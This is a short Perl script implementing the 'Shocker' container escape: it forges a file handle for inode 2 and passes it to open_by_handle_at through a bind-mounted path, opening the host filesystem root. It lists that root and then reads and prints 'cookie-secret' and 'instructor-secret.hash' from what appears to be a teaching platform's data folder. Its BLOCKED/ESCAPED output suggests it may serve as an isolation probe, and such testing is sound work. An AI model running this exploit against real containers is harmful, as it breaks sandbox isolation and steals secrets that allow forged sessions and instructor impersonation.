# "Shocker": name_to_handle_at, then open_by_handle_at with a handle made by
# hand for inode 2 (the root directory of an ext4/xfs filesystem) of the
# filesystem behind each path given. It ignores the mount namespace, so from a
# bind-mounted file it opens the whole host filesystem that file lives on.
# Usage: perl open-by-handle.pl DATA_DIR PATH...   (DATA_DIR: host path of the platform's data folder)
use strict; use warnings; use Fcntl qw(O_RDONLY O_DIRECTORY);
my ($NAME_TO_HANDLE_AT, $OPEN_BY_HANDLE_AT) = (303, 304);   # x86_64
my ($data, @paths) = @ARGV;
$| = 1;
for my $path (@paths) {
  my $handle = pack('LL', 128, 0) . ("\0" x 128);   # struct file_handle with room for 128 bytes
  my $mount_id = pack('L', 0);
  if (syscall($NAME_TO_HANDLE_AT, -100, $path, $handle, $mount_id, 0) == 0) {
    my ($bytes, $type) = unpack('Ll', $handle);
    print "NOTE: name_to_handle_at($path) gave a handle of type $type ($bytes bytes)\n";
  } else {
    print "BLOCKED: name_to_handle_at($path): $!\n";
  }
  sysopen(my $fh, $path, O_RDONLY) or do { print "NOTE: cannot open $path: $!\n"; next };
  my $crafted = pack('LlLL', 8, 1, 2, 0);   # 8 bytes, FILEID_INO32_GEN: inode 2, generation 0
  my $fd = syscall($OPEN_BY_HANDLE_AT, fileno($fh), $crafted, O_RDONLY | O_DIRECTORY);
  if ($fd < 0) { print "BLOCKED: open_by_handle_at(filesystem of $path, inode 2): $!\n"; next }
  opendir(my $dh, "/proc/self/fd/$fd") or do { print "NOTE: opened fd $fd but cannot list it: $!\n"; next };
  my @names = sort grep { !/^\.\.?$/ } readdir($dh);
  my $shown = join(' ', @names[0 .. ($#names < 40 ? $#names : 40)]);
  print "ESCAPED: open_by_handle_at through $path opened the root of its filesystem: $shown\n";
  for my $file ('cookie-secret', 'instructor-secret.hash') {
    if (open(my $s, '<', "/proc/self/fd/$fd$data/$file")) {
      my $line = <$s> // ''; chomp $line;
      print "ESCAPED: read $data/$file through it: $line\n";
    }
  }
}
